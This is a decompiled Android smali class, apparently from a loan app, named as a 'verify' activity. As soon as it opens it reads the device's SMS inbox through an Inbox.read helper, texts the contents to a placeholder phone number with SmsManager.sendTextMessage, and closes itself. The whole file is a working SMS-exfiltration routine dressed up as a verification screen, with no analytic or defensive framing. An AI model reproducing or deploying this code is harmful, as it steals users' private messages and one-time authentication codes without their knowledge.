# Hands the text of Inbox.read to the SMS manager.
.class public final Lorg/example/loan/sms/VerifyActivity;
.super Landroid/app/Activity;
.source "VerifyActivity.java"


.method public constructor <init>()V
    .registers 1

    .line 7
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


.method protected onCreate(Landroid/os/Bundle;)V
    .registers 8

    .line 11
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    .line 12
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;

    move-result-object v0

    invoke-static {p0}, Lorg/example/loan/sms/Inbox;->read(Landroid/content/Context;)Ljava/lang/String;

    move-result-object v3

    const-string v1, "+12025550123"

    const/4 v2, 0x0

    const/4 v4, 0x0

    const/4 v5, 0x0

    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V

    .line 13
    invoke-virtual {p0}, Lorg/example/loan/sms/VerifyActivity;->finish()V

    return-void
.end method
